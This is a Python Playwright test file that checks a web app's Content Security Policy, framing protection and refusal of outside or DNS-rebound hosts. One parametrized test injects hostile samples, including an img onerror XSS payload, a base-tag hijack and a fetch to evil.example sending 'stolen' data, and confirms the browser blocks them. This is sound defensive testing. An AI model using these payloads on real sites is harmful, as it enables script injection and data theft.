"""What browsers make of the wire: our pages work under the policy, foreign scripts do not."""

import json
import sqlite3
import subprocess
import time
from contextlib import closing

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.steps import ANSWERS, at_a_job, end, make_job, start, type_answer
from tests.fixtures.server import Server
from tests.machine.browsers import chromium
from tests.machine.services import redis_server

pytestmark = pytest.mark.browser

_LISTEN = """document.addEventListener("securitypolicyviolation", (event) =>
  window.note(`${event.violatedDirective} ${event.blockedURI} at ${location.pathname}`));"""


@pytest.fixture
def violations(page: Page) -> list[str]:
    """What the browser refused to load, or said of the policy, in all pages of this test."""
    seen: list[str] = []
    page.expose_function("note", lambda violation: seen.append(violation))  # noqa: PLW0108
    page.add_init_script(_LISTEN)
    page.on("console", lambda said: seen.append(said.text) if "Policy" in said.text else None)
    return seen


def test_all_pages_and_a_live_call_break_no_rule(server, page, violations):
    page.goto(server.address)
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    make_job(page, server, "Under a policy")
    job = page.url
    for address in (f"{server.address}/app", f"{job}/edit", f"{job}/interviews", f"{job}/nothing"):
        page.goto(address)
        page.reload()
        expect(page.get_by_role("heading", level=1)).to_be_visible()
    page.goto(job)

    start(page)
    expect(page.locator('.bubble[data-speaker="interviewer"]').first).to_be_attached()
    type_answer(page, ANSWERS[0])
    end(page)
    expect(page.get_by_role("heading", name="Your feedback")).to_be_visible()
    told = page.get_by_role("heading", name="Too little said to tell")
    expect(told).to_be_visible()

    assert violations == []


def test_a_refusal_comes_up_over_the_page_and_needs_no_code(server, page, violations):
    at_a_job(page, server, "Deleted in another tab")
    page.goto(f"{page.url}/edit")
    page.get_by_label("Description").fill("Another description, long enough to be one.")
    with closing(sqlite3.connect(server.database, timeout=30)) as beside, beside:
        beside.execute("delete from job_info where name = 'Deleted in another tab'")

    page.get_by_role("button", name="Save").click()

    toast = page.get_by_role("region", name="Notifications").get_by_role("listitem")
    expect(toast).to_contain_text("We could not find that.")
    assert violations == []


@pytest.mark.parametrize(
    ("attack", "refused"),
    [
        (
            "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
            "document.body.append(s)",
            "script-src",
        ),
        (
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"ran = 1\">')",
            "script-src",
        ),
        (
            "const b = document.createElement('base'); b.href = 'https://evil.example/';"
            "document.head.append(b)",
            "base-uri",
        ),
        # Later: while a test evaluates something itself, evaluating is allowed.
        ("setTimeout(() => { try { eval('window.ran = 1') } catch {} })", "script-src"),
        ("fetch('https://evil.example/?stolen').catch(() => 0)", "connect-src"),
    ],
)
def test_a_script_that_slips_into_a_page_does_nothing(server, page, violations, attack, refused):
    page.goto(f"{server.address}/app")
    expect(page.get_by_role("heading", level=1)).to_be_visible()

    page.evaluate(f"() => {{ {attack} }}")
    until = time.monotonic() + 30
    while not any(refused in one for one in violations):
        assert time.monotonic() < until, violations
        page.wait_for_timeout(50)

    assert page.evaluate("window.ran") is None


def test_pages_work_with_their_state_in_redis(serve, page):
    with redis_server.running() as redis:
        server = serve({"DARASA_REDIS_URL": redis.address})
        make_job(page, server, "Kept in Redis")
        start(page)
        type_answer(page, ANSWERS[0])
        log = server.log
        page.close()  # a server that stops gives calls 20 s to end
        server.stop()

    assert log.strip().endswith(f"Darasa is ready: {server.address}")


def test_no_other_site_can_frame_a_page(server, page):
    page.goto("about:blank")

    page.set_content(f'<iframe src="{server.address}"></iframe>')
    page.wait_for_timeout(500)

    assert page.frames[1].url in {"", "chrome-error://chromewebdata/"}


@pytest.fixture(scope="module")
def open_to_all(tmp_path_factory):
    """A server without sign-in that listens on all addresses of this machine."""
    started = Server(tmp_path_factory.mktemp("open"), {"DARASA_HOST": "0.0.0.0"}).start()
    yield started
    started.stop()


def other_address() -> str:
    """Return an address of this machine that is not loopback."""
    own = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=True)
    return next((one for one in own.stdout.split() if "." in one), "")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_strangers_get_a_page_that_explains(open_to_all, open_browser, width, scheme, tmp_path):
    if not other_address():
        pytest.skip("this machine has no address but loopback")
    page = _page_of(open_browser(), width, scheme)

    answer = page.goto(f"http://{other_address()}:{open_to_all.port}/app/job-infos/new")

    assert answer.status == 403
    expect(page.get_by_role("heading", level=1)).to_contain_text("only to its own computer")
    expect(page.get_by_text("DARASA_LOCAL_ACCOUNTS=1")).to_be_visible()
    assert page.locator("script, a, link, img").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(17, 20, 23)"
    assert dark == (scheme == "dark")
    page.screenshot(path=tmp_path / "explanation.png", full_page=True)


def test_a_name_that_is_bound_again_to_this_machine_gets_it_too(open_to_all, playwright):
    flags = [*chromium.flags(), "--host-resolver-rules=MAP rebound.example 127.0.0.1"]
    browser = playwright.chromium.launch(executable_path=chromium.find(), args=flags)
    page = browser.new_page()

    answer = page.goto(f"http://rebound.example:{open_to_all.port}/")
    sockets = page.evaluate(_OPEN_SOCKETS)
    browser.close()

    assert answer.status == 403
    assert json.loads(sockets) == ["error", "error"]


_OPEN_SOCKETS = """async () => JSON.stringify(await Promise.all(
  ["/_event/?EIO=4&transport=websocket", "/v0/evi/chat"].map((path) => new Promise((done) => {
    const socket = new WebSocket(`ws://${location.host}${path}`);
    socket.onopen = () => done("open");
    socket.onerror = () => done("error");
  }))))"""


def _page_of(browser: Browser, width: int, scheme: str) -> Page:
    size = {"width": width, "height": 800}
    return browser.new_context(viewport=size, color_scheme=scheme).new_page()
